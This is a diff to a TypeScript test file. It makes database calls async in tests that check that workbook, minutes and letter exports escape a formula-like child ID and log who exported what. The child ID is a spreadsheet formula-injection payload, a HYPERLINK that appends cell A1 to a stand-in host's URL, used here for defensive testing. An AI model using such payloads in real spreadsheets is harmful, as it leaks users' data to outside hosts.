@@ -1,3 +1,4 @@
+import { sqliteConnection } from '../../src/main/core/store/engine/sqlite'
 import ExcelJS from 'exceljs'
 import { describe, expect, it } from 'vitest'
 import type { Context } from '../../src/main/core/context'
@@ -14,15 +15,15 @@ import { meetingFixture } from './panel/fixture'
 const hostileId = '=HYPERLINK("http://example.invalid/?x="&A1,"open")'
 
 /** Gives a child a hostile ID everywhere it appears, as a crafted import could. */
-function renameChild(ctx: Context, from: string, to: string): void {
-  const tables = ctx.db
+async function renameChild(ctx: Context, from: string, to: string): Promise<void> {
+  const tables = await ctx.db
     .prepare("SELECT m.name FROM sqlite_master m JOIN pragma_table_info(m.name) c ON c.name = 'child_id' WHERE m.type = 'table'")
     .pluck()
     .all() as string[]
-  ctx.db.pragma('foreign_keys = OFF')
-  ctx.db.prepare('DELETE FROM tracker_dirty WHERE child_id IN (?, ?)').run(from, to)
-  for (const t of tables.filter((name) => name !== 'tracker_dirty')) ctx.db.prepare(`UPDATE ${t} SET child_id = ? WHERE child_id = ?`).run(to, from)
-  ctx.db.pragma('foreign_keys = ON')
+  sqliteConnection(ctx.db, 'test').pragma('foreign_keys = OFF')
+  await ctx.db.prepare('DELETE FROM tracker_dirty WHERE child_id IN (?, ?)').run(from, to)
+  for (const t of tables.filter((name) => name !== 'tracker_dirty')) await ctx.db.prepare(`UPDATE ${t} SET child_id = ? WHERE child_id = ?`).run(to, from)
+  sqliteConnection(ctx.db, 'test').pragma('foreign_keys = ON')
 }
 
 async function cellsOf(base64: string, sheetName: string, column: number): Promise<unknown[]> {
@@ -33,15 +34,15 @@ async function cellsOf(base64: string, sheetName: string, column: number): Promi
   return values
 }
 
-const exportsLogged = (ctx: Context) =>
-  ctx.db.prepare("SELECT who, action, entity_id, after FROM audit_log WHERE action LIKE '%.export' ORDER BY id").all() as { who: string; action: string; entity_id: string; after: string }[]
+const exportsLogged = async (ctx: Context) =>
+  await ctx.db.prepare("SELECT who, action, entity_id, after FROM audit_log WHERE action LIKE '%.export' ORDER BY id").all() as { who: string; action: string; entity_id: string; after: string }[]
 
 describe('exports that carry names', () => {
   it('log the 903 export with the files it wrote', async () => {
-    const ctx = tempContext('2020-03-31')
-    createDemo(ctx.db, { asOf: '2020-03-31', lookedAfter: 10 }, 'tester')
+    const ctx = await tempContext('2020-03-31')
+    await createDemo(ctx.db, { asOf: '2020-03-31', lookedAfter: 10 }, 'tester')
     const result = await export903(ctx, tempDir())
-    const [logged] = ctx.db.prepare("SELECT who, after FROM audit_log WHERE action = 'export.903'").all() as { who: string; after: string }[]
+    const [logged] = await ctx.db.prepare("SELECT who, after FROM audit_log WHERE action = 'export.903'").all() as { who: string; after: string }[]
     expect(logged.who).toBe('tester')
     expect(JSON.parse(logged.after)).toEqual({
       what: `903 Header.csv and Episodes.csv: ${result.children} children, ${result.episodeRows} episodes`,
@@ -50,34 +51,34 @@ describe('exports that carry names', () => {
   })
 
   it('escape a formula-like child ID in the decisions workbook and log who exported what, where', async () => {
-    const { ctx, meetingId, children } = meetingFixture()
-    renameChild(ctx, children[0], hostileId)
-    recordDecision(ctx, { itemId: ctx.db.prepare('SELECT id FROM agenda_item WHERE child_id = ?').pluck().get(hostileId) as number, outcome: 'agreed', reasons: 'Settled and thriving' })
+    const { ctx, meetingId, children } = await meetingFixture()
+    await renameChild(ctx, children[0], hostileId)
+    await recordDecision(ctx, { itemId: await ctx.db.prepare('SELECT id FROM agenda_item WHERE child_id = ?').pluck().get(hostileId) as number, outcome: 'agreed', reasons: 'Settled and thriving' })
     const file = await exportDecisions(ctx, meetingId)
     const ids = await cellsOf(file.contentBase64, 'Decisions', 2)
     expect(ids).toContain(`'${hostileId}`)
     expect(ids.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false)
-    renderMinutes(ctx, meetingId)
-    renderLetter(ctx, meetingId, hostileId)
-    const logged = exportsLogged(ctx)
+    await renderMinutes(ctx, meetingId)
+    await renderLetter(ctx, meetingId, hostileId)
+    const logged = await exportsLogged(ctx)
     expect(logged.map((l) => l.action)).toEqual(['panel.decisions.export', 'panel.minutes.export', 'panel.letter.export'])
     expect(logged.every((l) => l.who === 'tester')).toBe(true)
     expect(JSON.parse(logged[0].after)).toEqual({ what: expect.stringContaining(file.fileName), where: 'download' })
     expect(JSON.parse(logged[2].after).what).toContain(hostileId)
-    expect(checkDb(ctx.db).audit.ok).toBe(true)
+    expect((await checkDb(ctx.db)).audit.ok).toBe(true)
   })
 
   it('escape a formula-like child ID in the review workbook and log the export with its destination', async () => {
-    const ctx = tempContext('2020-03-31')
-    createDemo(ctx.db, { asOf: '2020-03-31', lookedAfter: 150 }, 'tester')
-    const cycle = openCycle(ctx, { startDate: '2020-03-31' })
-    const first = ctx.db.prepare('SELECT child_id FROM review_item WHERE cycle_id = ? ORDER BY id LIMIT 1').pluck().get(cycle.id) as string
-    renameChild(ctx, first, hostileId)
+    const ctx = await tempContext('2020-03-31')
+    await createDemo(ctx.db, { asOf: '2020-03-31', lookedAfter: 150 }, 'tester')
+    const cycle = await openCycle(ctx, { startDate: '2020-03-31' })
+    const first = await ctx.db.prepare('SELECT child_id FROM review_item WHERE cycle_id = ? ORDER BY id LIMIT 1').pluck().get(cycle.id) as string
+    await renameChild(ctx, first, hostileId)
     const file = await exportCycle(ctx, cycle.id, '/reports/q1.xlsx')
     const ids = await cellsOf(file.contentBase64, 'Children', 1)
     expect(ids).toContain(`'${hostileId}`)
     expect(ids.some((v) => typeof v === 'string' && v.startsWith('='))).toBe(false)
-    const [logged] = exportsLogged(ctx)
+    const [logged] = await exportsLogged(ctx)
     expect(logged).toMatchObject({ who: 'tester', action: 'review.export', entity_id: String(cycle.id) })
     expect(JSON.parse(logged.after).where).toBe('/reports/q1.xlsx')
   })
